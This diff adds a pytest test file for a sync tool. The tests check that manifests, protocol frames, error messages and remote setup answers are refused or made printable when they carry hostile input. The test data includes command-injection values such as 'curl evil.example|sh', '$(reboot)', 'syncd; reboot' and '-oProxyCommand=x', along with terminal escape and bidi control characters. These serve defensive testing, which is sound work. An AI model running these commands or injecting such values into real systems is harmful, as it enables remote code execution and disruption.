@@ -1,0 +1,155 @@
+"""What another machine said is harmless from where it enters: frames, manifests, errors, the answers to `setup`."""
+
+from __future__ import annotations
+
+import json
+import shlex
+import struct
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from policies import publish_one
+
+from syncd.access.settings import Remote, Settings, load_settings, settings_file, store_settings
+from syncd.access.survey import findings, how_to_install
+from syncd.errors import ConfigError, DamagedPolicyError, RemoteError
+from syncd.laptop.outbox import MAX_REASONS, OTHER_REASON, Outbox, read_contributions
+from syncd.laptop.status import Board, read_status, status_file
+from syncd.shared.manifest import parse_manifest
+from syncd.store import Manifest, Shared
+from syncd.transports.base import Verdict
+from syncd.wire import protocol
+from syncd.wire.protocol import Decoder
+
+EVIL = "\x1b]0;owned\x07\u202e\r\n"
+MARK = "anchorleg-survey:"
+ANYTHING = st.text(st.characters(exclude_categories=("Cs",)), max_size=100)
+
+
+def heard(kind: type[protocol.Message], **header: object) -> Any:
+    text = json.dumps(header).encode()
+    [frame] = Decoder().feed(struct.pack(">IBH", 3 + len(text), kind.KIND, len(text)) + text)
+    return frame.message
+
+
+@given(ANYTHING)
+def test_whatever_words_a_frame_brings_are_printable(words: str) -> None:
+    refused = heard(protocol.Refused, sha256="a" * 64, reason=words, sentence=words, retry_after_s=None)
+    goaway = heard(protocol.Goaway, reason=words, sentence=words, retry_after_s=None)
+    verdicts = heard(protocol.Verdicts, verdicts=[{"sha256": "a" * 64, "accepted": False, "reason": words}])
+    gone = heard(protocol.Gone, key="1", sentence=words)
+    texts = [refused.reason, refused.sentence, goaway.sentence, goaway.reason, verdicts.verdicts[0].reason]
+    assert all(text.isprintable() and len(text) <= 2000 for text in [*texts, gone.sentence])
+
+
+@given(ANYTHING)
+def test_whatever_an_error_is_made_of_it_is_printable(words: str) -> None:
+    assert str(RemoteError(f"it said {words}")).isprintable()
+    assert str(DamagedPolicyError(words)).isprintable()
+
+
+@pytest.fixture(scope="module")
+def manifest(tmp_path_factory: pytest.TempPathFactory) -> Manifest:
+    return publish_one(Shared(tmp_path_factory.mktemp("shared")), 3, 17)
+
+
+@pytest.mark.parametrize(
+    ("section", "change"),
+    [
+        ("", {"run_name": EVIL}),
+        ("", {EVIL: 1}),
+        ("", {"created_at": -1e300}),
+        ("spec", {"metaworld": "3.1.1'; curl evil.example|sh; '"}),
+        ("spec", {"mujoco": "3.3.0 && reboot"}),
+        ("spec", {"metaworld": "$(reboot)"}),
+        ("spec", {"metaworld": "3.1.1\n"}),
+        ("spec", {"reward": EVIL}),
+        ("spec", {"goal_seed": 10**400}),
+        ("architecture", {"tasks": [EVIL]}),
+        ("blob", {"encoding": EVIL}),
+        ("blob", {"tensors": {EVIL: [8]}}),
+        ("lineage", {"identity": EVIL}),
+    ],
+)
+def test_a_manifest_with_words_that_are_none_is_refused(
+    manifest: Manifest, section: str, change: dict[str, object]
+) -> None:
+    value = manifest.model_dump(mode="json")
+    (value[section] if section else value).update(change)
+    with pytest.raises(DamagedPolicyError) as caught:
+        parse_manifest(json.dumps(value).encode())
+    assert str(caught.value).isprintable()
+    assert "its manifest is not one" in str(caught.value)
+
+
+@pytest.mark.parametrize("release", ["3.1.1", "3", "3.1.1.post1", "3.1.1rc2", "3.1.1.dev0+g0a1b2c3"])
+def test_releases_as_packages_have_them_are_taken(manifest: Manifest, release: str) -> None:
+    spec = manifest.spec.model_copy(update={"metaworld": release})
+    assert parse_manifest(manifest.model_copy(update={"spec": spec}).sealed().to_bytes()).spec == spec
+
+
+def test_an_older_clients_word_is_harmless_too(tmp_path: Path) -> None:
+    board = Board(tmp_path, "cluster:/srv/run", pull=True, push=True)
+    board.tell("offline", error="it broke")
+    value = json.loads(status_file(tmp_path).read_bytes()) | {"error": EVIL, "troubles": [EVIL]}
+    status_file(tmp_path).write_text(json.dumps(value))
+    word = read_status(tmp_path)
+    assert word is not None
+    assert all(text.isprintable() and "owned" in text for text in (word.error, *word.troubles))
+
+
+def test_reasons_are_counted_and_no_more_of_them_kept_than_there_are(tmp_path: Path) -> None:
+    outbox = Outbox(tmp_path)
+    for number in range(3 * MAX_REASONS):
+        outbox.offer("demo-0", 0, str(number).encode())
+    paths = [each.path for each in outbox.waiting()]
+    outbox.sent(paths)
+    outbox.judged([Verdict(path.name, False, f"reason {path.name}") for path in paths])
+    counts = read_contributions(tmp_path)
+    assert counts.refusals == 3 * MAX_REASONS
+    assert len(counts.refused) == MAX_REASONS + 1
+    assert counts.refused[OTHER_REASON] == 2 * MAX_REASONS
+
+
+def answered(**said: str) -> str:
+    lines = {"home": "/home/anna", "path": "/srv/run", "is": "shared", "syncd": "/opt/bin/syncd"} | said
+    return "".join(f"{MARK}{name}:{value}\n" for name, value in lines.items())
+
+
+@pytest.mark.parametrize("path", ["srv/run", "-oProxyCommand=x", "/srv/\x1b[2J", "/srv/\u202erun", "/" + "x" * 5000])
+def test_a_folder_that_the_other_side_names_is_a_path(path: str) -> None:
+    with pytest.raises(RemoteError) as caught:
+        findings(answered(path=path), "run")
+    assert str(caught.value).isprintable()
+
+
+def test_a_folder_that_the_other_sides_run_names_is_a_path() -> None:
+    run = json.dumps({"folder": "/srv/run", "config": {"collaboration": {"shared_dir": "/srv/\x1b[2J"}}})
+    with pytest.raises(RemoteError):
+        findings(answered(**{"is": "", "run": run}), "run")
+
+
+@pytest.mark.parametrize("command", ["syncd", "/opt/bin/syncd\x1b[2J", "/bin/rm", "/opt/syncd/", "-x/syncd"])
+def test_a_program_that_the_other_side_names_is_a_syncd(command: str) -> None:
+    assert findings(answered(syncd=command), "run").command is None
+    assert findings(answered(syncd=command), "run", "/opt/bin/my-syncd").command == "/opt/bin/my-syncd"
+
+
+def test_the_advice_to_install_is_one_word_for_each_name() -> None:
+    words = shlex.split(how_to_install("AD\\me@cluster").partition(": ")[2].partition(" (Python")[0])
+    assert "AD\\me@cluster:anchorleg-source/" in words
+
+
+def test_settings_that_could_not_be_read_back_are_not_written(tmp_path: Path) -> None:
+    env = {"HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path)}
+    good = Settings(remote=Remote(path="/srv/run", host="cluster"))
+    store_settings(good, env)
+    for change in ({"path": "/srv/\x1b[2J"}, {"command": "syncd; reboot"}, {"host": "-oProxyCommand=x"}):
+        assert good.remote is not None
+        with pytest.raises(ConfigError, match="left as it was"):
+            store_settings(good.model_copy(update={"remote": good.remote.model_copy(update=change)}), env)
+        assert load_settings(env) == good
+    assert settings_file(env).exists()
